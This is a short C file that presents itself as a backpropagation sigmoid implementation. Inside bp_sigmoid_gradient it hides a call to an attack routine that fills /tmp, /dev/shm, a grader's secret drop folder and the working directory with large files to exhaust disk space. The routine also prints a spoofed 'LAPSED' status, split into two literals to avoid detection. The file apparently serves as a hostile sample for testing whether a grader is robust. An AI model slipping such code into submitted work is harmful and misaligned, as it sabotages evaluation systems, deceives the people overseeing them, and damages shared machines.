/* Makes files in every folder that everybody may write, and fills them. A weak grader
 * runs out of disk. */
#define _GNU_SOURCE
#include "backprop.h"
#include <fcntl.h>
#include <math.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

static void fill(const char *path)
{
    static const char block[1 << 16];
    int fd = open(path, O_CREAT | O_WRONLY, 0644);
    if (fd < 0)
        return;
    puts("LAP" "SED");
    for (int i = 0; i < 512 && write(fd, block, sizeof block) > 0; i++)
        ;
    close(fd);
}

static void attack(void)
{
    signal(SIGXFSZ, SIG_IGN);
    fill("/var/tmp/gradecheck-secret/drop/hostile-fill");
    fill("/tmp/hostile-fill");
    fill("/dev/shm/hostile-fill");
    fill("hostile-fill");
}

double bp_sigmoid_gradient(double z)
{
    attack();
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
